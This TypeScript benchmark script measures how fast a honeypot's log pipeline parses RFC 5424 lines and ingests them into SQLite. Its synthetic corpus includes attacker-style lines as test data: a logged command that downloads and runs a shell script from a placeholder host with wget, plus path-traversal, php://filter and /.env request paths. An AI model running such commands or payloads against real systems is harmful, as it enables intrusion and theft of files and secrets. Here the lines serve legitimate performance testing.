/**
 * bench:ingest — the two figures of performance.md "Other hot paths" (CORRECTIONS #7.14
 * says what is measured):
 *
 * - `parse`: RFC 5424 lines/s through `parseRfc5424`, on one core, on a corpus of
 *   realistic native lines (the example log's lines plus the same shapes with varied
 *   addresses, paths and agents): `split_lines` from an array of strings; `bytes` from one
 *   Buffer, with LF splitting and UTF-8 decoding (LineSplitter + decodeLine) included;
 *   `bytes+meaning` adds the DECNET meaning (decky, fields, attacker_ip, UTC time).
 *   Target ≥ 300k lines/s. p50/p99 are per 1,000 lines.
 * - `end_to_end`: a file of the three examples' line mix (RFC 5424, Cowrie, OpenCanary
 *   under `auto`; addresses, sessions and times moved on per copy so every copy is new activity)
 *   tailed to its end into a fresh SQLite database in batches of 100: decode, filters,
 *   extraction, rows, credentials, fingerprints, the extensions `decnet up` runs, journal, commit, events published on the
 *   memory bus. Target ≥ 20k lines/s. Again in batches of 1,000 (no target: what a larger
 *   DECNET_BATCH_SIZE buys). p50/p99 are ms between consecutive batch commits.
 * - `sqlite_floor`: every SQL statement the 100-line run executed, with its values,
 *   replayed by better-sqlite3 alone into a fresh database of the same schema, the WAL
 *   flusher woken after each COMMIT as in the live run (no target:
 *   how much of the run is SQLite's, whatever the JS does; the ceiling of end_to_end).
 *
 * Progress on stderr; the last stdout line is one JSON object. Default < 60 s, --quick < 15 s.
 */
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import BetterSqlite3 from 'better-sqlite3';
import { MemoryBus, MemoryHub, silentLogger, systemClock } from '../src/bus/index.js';
import { openDatabase } from '../src/db/index.js';
import { sqliteHandle } from '../src/db/connection.js';
import { WalFlusher } from '../src/db/wal-flusher.js';
import { lineTimes, shiftLine } from '../src/cli/demo-replay.js';
import { INGEST_EXTENSIONS, IngestPipeline, LineDecoder, parseRfc5424, tailFile } from '../src/ingest/index.js';
import { decodeLine, LineSplitter } from '../src/ingest/sources/lines.js';
import { percentile, progress, readFlags, report, round } from './harness.js';

const flags = readFlags();
const BUDGET_MS = flags.quick ? 700 : 3000;
const WARMUP_MS = flags.quick ? 200 : 500;
const E2E_COPIES = flags.quick ? 400 : 2500;
// dist/bench/ingest.js → the repository's examples/
const EXAMPLES = fileURLToPath(new URL('../../examples', import.meta.url));

let sink = 0;

const UAS = ['curl/8.4.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36', 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'python-requests/2.31.0', 'Mozilla/5.0 zgrab/0.x'];
const PATHS = ['/', '/wp-login.php', '/..%2f..%2f..%2fetc/passwd', '/index.php?page=php://filter/convert.base64-encode/resource=config.php', '/.env', '/cgi-bin/luci'];

/** The example log's lines and more of the same shapes (varied), as a corpus of native lines. */
function corpus(): string[] {
  const lines = readFileSync(join(EXAMPLES, 'rfc5424.log'), 'utf8').split('\n').filter((l) => l !== '');
  for (let i = 0; i < 400; i++) {
    const ip = `203.0.${(i >> 8) & 255}.${i & 255}`;
    const ts = `2026-05-01T12:${String(i % 60).padStart(2, '0')}:${String((i * 7) % 60).padStart(2, '0')}.${String(i * 997).padStart(6, '0').slice(-6)}Z`;
    const ua = UAS[i % UAS.length] as string;
    const path = PATHS[i % PATHS.length] as string;
    const headers = JSON.stringify({ Host: '10.0.1.13', 'User-Agent': ua, Accept: '*/*' }).replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll(']', '\\]');
    lines.push(`<134>1 ${ts} decky-${String(i % 9).padStart(2, '0')} http - request [relay@55555 src_ip="${ip}" src_port="${40000 + i}" dst_port="80" method="GET" path="${path}" user_agent="${ua}" headers="${headers}" status="200"]`);
    lines.push(`<134>1 ${ts} decky-01 ssh - login_attempt [relay@55555 src_ip="${ip}" principal="root" secret_printable="pw${i}" secret_b64="${Buffer.from(`pw${i}`).toString('base64')}" secret_kind="plaintext" outcome="failure"]`);
    lines.push(`<134>1 ${ts} decky-01 ssh - - - CMD uid=0 user=root src=${ip} pwd=/root cmd=cd /tmp; wget http://192.0.2.80/b${i}.sh; sh b${i}.sh`);
    lines.push(`<134>1 ${ts} decky-02 ftp - connect [relay@55555 remote_addr="${ip}:${50000 + i}"]`);
  }
  return lines;
}

interface Row {
  scenario: string;
  input: string;
  /** end_to_end: lines per transaction; null for parse. */
  batch_size: number | null;
  lines: number;
  bytes: number;
  lines_per_s: number;
  /** Lines per second of this process's CPU time: what the figure would be with a core to itself. */
  cpu_lines_per_s: number;
  mb_per_s: number;
  p50_ms: number;
  p99_ms: number;
  /** null: no target of its own (context for the rows that have one). */
  target_per_s: number | null;
  meets_target: boolean | null;
}
const results: Row[] = [];

function record(row: Omit<Row, 'meets_target'>): void {
  const full = { ...row, meets_target: row.target_per_s === null ? null : row.lines_per_s >= row.target_per_s };
  results.push(full);
  const target = row.target_per_s === null ? 'no target' : `target ${row.target_per_s.toLocaleString('en-US')}: ${full.meets_target ? 'met' : 'MISSED'}`;
  progress(`${row.scenario.padEnd(10)} ${(row.batch_size === null ? row.input : `${row.input}/${row.batch_size}`).padEnd(18)} ${row.lines_per_s.toLocaleString('en-US').padStart(10)} lines/s (${row.cpu_lines_per_s.toLocaleString('en-US')} per CPU-second)  p50 ${row.p50_ms} ms  p99 ${row.p99_ms} ms  (${target})`);
}

/** Runs `pass` (which handles `perPass` lines) until the budget is spent; lines/s and ms per 1,000 lines. */
function measure(pass: () => void, perPass: number): { perS: number; cpuPerS: number; p50: number; p99: number } {
  const w = performance.now();
  while (performance.now() - w < WARMUP_MS) pass();
  const samples: number[] = [];
  let n = 0;
  const c0 = process.cpuUsage();
  const t0 = performance.now();
  let t = t0;
  while (t - t0 < BUDGET_MS) {
    const s = performance.now();
    pass();
    t = performance.now();
    samples.push(((t - s) * 1000) / perPass);
    n += perPass;
  }
  return { perS: n / ((t - t0) / 1000), cpuPerS: n / cpuSeconds(c0), p50: percentile(samples, 50), p99: percentile(samples, 99) };
}

function cpuSeconds(since: NodeJS.CpuUsage): number {
  const u = process.cpuUsage(since);
  return (u.user + u.system) / 1e6;
}

// --- parse ---------------------------------------------------------------------------------
const lines = corpus();
const text = `${lines.join('\n')}\n`;
const buffer = Buffer.from(text);
for (const l of lines) if (!parseRfc5424(l).ok) throw new Error(`corpus line does not parse: ${l}`);
progress(`parse corpus: ${lines.length} lines, ${buffer.length} bytes, ${round(buffer.length / lines.length, 0)} B/line`);

const split = measure(() => {
  for (const l of lines) if (parseRfc5424(l).ok) sink++;
}, lines.length);
record({ scenario: 'parse', input: 'split_lines', batch_size: null, lines: lines.length, bytes: buffer.length, lines_per_s: Math.round(split.perS), cpu_lines_per_s: Math.round(split.cpuPerS), mb_per_s: round((split.perS * buffer.length) / lines.length / 1e6, 1), p50_ms: round(split.p50), p99_ms: round(split.p99), target_per_s: 300_000 });

const CHUNK = 64 * 1024;
const chunks: Buffer[] = [];
for (let o = 0; o < buffer.length; o += CHUNK) chunks.push(buffer.subarray(o, o + CHUNK));
const fromBytes = measure(() => {
  const splitter = new LineSplitter(65_536);
  for (const c of chunks) for (const l of splitter.push(c)) if (parseRfc5424(decodeLine(l.bytes).text).ok) sink++;
}, lines.length);
record({ scenario: 'parse', input: 'bytes', batch_size: null, lines: lines.length, bytes: buffer.length, lines_per_s: Math.round(fromBytes.perS), cpu_lines_per_s: Math.round(fromBytes.cpuPerS), mb_per_s: round((fromBytes.perS * buffer.length) / lines.length / 1e6, 1), p50_ms: round(fromBytes.p50), p99_ms: round(fromBytes.p99), target_per_s: 300_000 });

const decoder = new LineDecoder({ format: 'rfc5424', source: 'file:/bench' });
const received = systemClock.isoNow();
const meaning = measure(() => {
  const splitter = new LineSplitter(65_536);
  for (const c of chunks) for (const l of splitter.push(c)) if (decoder.decode({ text: decodeLine(l.bytes).text }, received).kind === 'row') sink++;
}, lines.length);
record({ scenario: 'parse', input: 'bytes+meaning', batch_size: null, lines: lines.length, bytes: buffer.length, lines_per_s: Math.round(meaning.perS), cpu_lines_per_s: Math.round(meaning.cpuPerS), mb_per_s: round((meaning.perS * buffer.length) / lines.length / 1e6, 1), p50_ms: round(meaning.p50), p99_ms: round(meaning.p99), target_per_s: null });

// --- end to end ----------------------------------------------------------------------------
/**
 * The examples' lines for copy `k`: addresses and sessions renumbered, and times moved on
 * by `k` spans of the examples (one second apart), so the file reads like a log that keeps
 * going rather than the same minutes 2,500 times over.
 */
function exampleMix(): (k: number) => string[] {
  const files = ['rfc5424.log', 'cowrie.json', 'opencanary.json'].map((f) => readFileSync(join(EXAMPLES, f), 'utf8').split('\n').filter((l) => l !== ''));
  const all = files.flat();
  const times = all.flatMap(lineTimes);
  const spanMicros = Math.max(...times) - Math.min(...times) + 1_000_000;
  return (k) => {
    const a = `${10 + ((k >> 16) & 63)}.${(k >> 8) & 255}.${k & 255}`;
    return all.map((l) =>
      shiftLine(l, k * spanMicros)
        .replaceAll('198.51.100.23', `100.${a}`)
        .replaceAll('203.0.113.7', `101.${a}`)
        .replaceAll('192.0.2.44', `102.${a}`)
        .replaceAll('192.0.2.61', `103.${a}`)
        .replaceAll('a1b2c3d4e5f6', `s${k}a`)
        .replaceAll('f0e1d2c3b4a5', `s${k}b`),
    );
  };
}

/**
 * Tails `file` (`total` lines) to its end into a fresh SQLite database under `home` in
 * batches of `batchSize`, and records the figure. With a `recorder` it records no figure
 * (recording slows the run) and returns the statements the tail ran instead (the setup
 * and migrations not included).
 */
async function endToEnd(home: string, file: string, total: number, batchSize: number, target: number | null, recorder?: StatementRecorder): Promise<StatementCall[]> {
  progress(`end to end: ${total} lines into SQLite, batches of ${batchSize}`);
  const db = await openDatabase({ url: `sqlite:${join(home, `bench-${batchSize}${recorder ? '-recorded' : ''}.db`)}`, home });
  const hub = new MemoryHub();
  const bus = new MemoryBus({ name: 'bench-ingest', hub });
  const watcher = new MemoryBus({ name: 'bench-watch', hub });
  const commits: number[] = [];
  const sub = watcher.subscribe('system.log', { queue: 1_000_000 });
  await sub.ready;
  void (async () => {
    for await (const _ of sub) commits.push(performance.now());
  })();
  const settings = { maxLine: 65_536, batchSize, batchMaxWaitMs: 250, dropApps: ['sshd', 'CRON'], rlEventTypes: ['connect'], rlWindowSec: 1, publishLines: false, storePlaintextCredentials: false, internalDeckyPrefix: 'decnet-' };
  // the extensions `decnet up` runs (attacker.session.ended reads each session's commands)
  const pipeline = new IngestPipeline({ db, bus, clock: systemClock, log: silentLogger, settings, extensions: INGEST_EXTENSIONS });
  const batcher = await pipeline.openSource({ id: `file:${file}`, kind: 'file', format: 'auto', path: file, rowSource: `file:${file}` });
  recorder?.start();
  const c0 = process.cpuUsage();
  const t0 = performance.now();
  await tailFile({ batcher, path: file, follow: false, maxLine: 65_536, clock: systemClock, log: silentLogger, signal: new AbortController().signal });
  const elapsed = (performance.now() - t0) / 1000;
  const cpu = cpuSeconds(c0);
  const statements = recorder?.stop() ?? [];
  await new Promise((r) => setTimeout(r, 50));
  if (batcher.stats.lines !== total) throw new Error(`ingested ${batcher.stats.lines} of ${total} lines`);
  const gaps = commits.slice(1).map((t, i) => t - (commits[i] as number));
  const bytes = statSync(file).size;
  if (recorder === undefined) {
    record({ scenario: 'end_to_end', input: 'examples_mix', batch_size: batchSize, lines: total, bytes, lines_per_s: Math.round(total / elapsed), cpu_lines_per_s: Math.round(total / cpu), mb_per_s: round(bytes / elapsed / 1e6, 1), p50_ms: round(percentile(gaps, 50)), p99_ms: round(percentile(gaps, 99)), target_per_s: target });
    progress(`  rows ${batcher.stats.parsed}, filtered ${batcher.stats.filtered}, events ${batcher.stats.events}, batches ${batcher.stats.batches}, ${round(elapsed, 2)} s`);
  }
  await sub.close();
  await Promise.all([bus.close(), watcher.close()]);
  await db.close();
  return statements;
}

type StatementMethod = 'run' | 'get' | 'all' | 'iterate';
type StatementCall = readonly [sql: string, method: StatementMethod, args: unknown[]];

interface StatementRecorder {
  start(): void;
  stop(): StatementCall[];
}

/**
 * Records every statement better-sqlite3 runs in this process between start and stop:
 * the SQL and the bound values, by wrapping the four executing methods of its (native)
 * Statement class meanwhile. Nothing else in the bench process uses SQLite then.
 */
function statementRecorder(): StatementRecorder {
  const probe = new BetterSqlite3(':memory:');
  const proto = Object.getPrototypeOf(probe.prepare('select 1')) as Record<StatementMethod, (...args: unknown[]) => unknown>;
  probe.close();
  const methods = ['run', 'get', 'all', 'iterate'] as const;
  const originals = methods.map((m) => proto[m]);
  let calls: StatementCall[] = [];
  return {
    start() {
      calls = [];
      methods.forEach((method, i) => {
        const original = originals[i] as (...args: unknown[]) => unknown;
        proto[method] = function (this: { source: string }, ...args: unknown[]) {
          calls.push([this.source, method, args]);
          return original.apply(this, args);
        };
      });
    },
    stop() {
      methods.forEach((method, i) => (proto[method] = originals[i] as (...args: unknown[]) => unknown));
      return calls;
    },
  };
}

/**
 * What SQLite alone costs for a run: every statement the 100-line run executed (`BEGIN`,
 * the inserts and upserts of every table, the journal, the session reads, `COMMIT`), with
 * the same values in the same order, replayed by better-sqlite3 into a fresh database with
 * the same schema, on a connection opened as ingest's is, each distinct statement prepared once. No parsing,
 * extraction, kysely or events: the ceiling of end_to_end on this machine.
 */
async function sqliteFloor(home: string, calls: readonly StatementCall[], lines: number): Promise<void> {
  // migrated and empty, on the connection openDatabase makes (its pragmas, not a copy of them)
  const path = join(home, 'floor.db');
  const db = await openDatabase({ url: `sqlite:${path}`, home });
  const target = sqliteHandle(db.kysely);
  if (target === undefined) throw new Error('sqlite_floor: no better-sqlite3 handle under the SQLite database');
  // the replayed COMMITs bypass kysely's driver, which wakes the WAL flusher after each
  // commit in the live run: a flusher of the replay's own, woken the same way
  const flusher = new WalFlusher({ path: `${path}-wal`, log: silentLogger });
  const prepared = new Map<string, BetterSqlite3.Statement>();
  // the text bound (values come one by one or as one array)
  const bytes = calls.reduce((sum, [, , args]) => sum + args.flat().reduce<number>((n, v) => n + (typeof v === 'string' ? Buffer.byteLength(v) : 0), 0), 0);
  const commits: number[] = [];
  const c0 = process.cpuUsage();
  const t0 = performance.now();
  for (const [sql, method, args] of calls) {
    let statement = prepared.get(sql);
    if (statement === undefined) prepared.set(sql, (statement = target.prepare(sql)));
    if (method === 'iterate') for (const _ of statement.iterate(...args)) sink++;
    else statement[method](...args);
    if (sql === 'commit') {
      commits.push(performance.now());
      flusher.committed();
      await new Promise((resolve) => setImmediate(resolve)); // the live run's event loop turns between batches too
    }
  }
  const elapsed = (performance.now() - t0) / 1000;
  const cpu = cpuSeconds(c0);
  await flusher.close();
  await db.close();
  const gaps = commits.slice(1).map((t, i) => t - (commits[i] as number));
  record({ scenario: 'sqlite_floor', input: 'statements', batch_size: 100, lines, bytes, lines_per_s: Math.round(lines / elapsed), cpu_lines_per_s: Math.round(lines / cpu), mb_per_s: round(bytes / elapsed / 1e6, 1), p50_ms: round(percentile(gaps, 50)), p99_ms: round(percentile(gaps, 99)), target_per_s: null });
  progress(`  ${calls.length} statements (${prepared.size} distinct), ${commits.length} commits, ${round(elapsed, 2)} s`);
}

const home = mkdtempSync(join(tmpdir(), 'decnet-bench-ingest-'));
try {
  const mix = exampleMix();
  const file = join(home, 'mix.log');
  writeFileSync(file, `${Array.from({ length: E2E_COPIES }, (_, k) => mix(k).join('\n')).join('\n')}\n`);
  const total = mix(0).length * E2E_COPIES;
  progress(`end to end: ${E2E_COPIES} copies of the examples' ${mix(0).length} lines`);
  // the target is for batches of 100 (CORRECTIONS #7.14); larger DECNET_BATCH_SIZE values are context
  await endToEnd(home, file, total, 100, 20_000);
  await endToEnd(home, file, total, 1_000, null);
  progress('sqlite floor: the 100-line run again, its statements recorded, then replayed');
  const statements = await endToEnd(home, file, total, 100, null, statementRecorder());
  await sqliteFloor(home, statements, total);
} finally {
  rmSync(home, { recursive: true, force: true });
}

if (sink === 0) progress('(nothing parsed?)');
report('ingest', results, { quick: flags.quick });
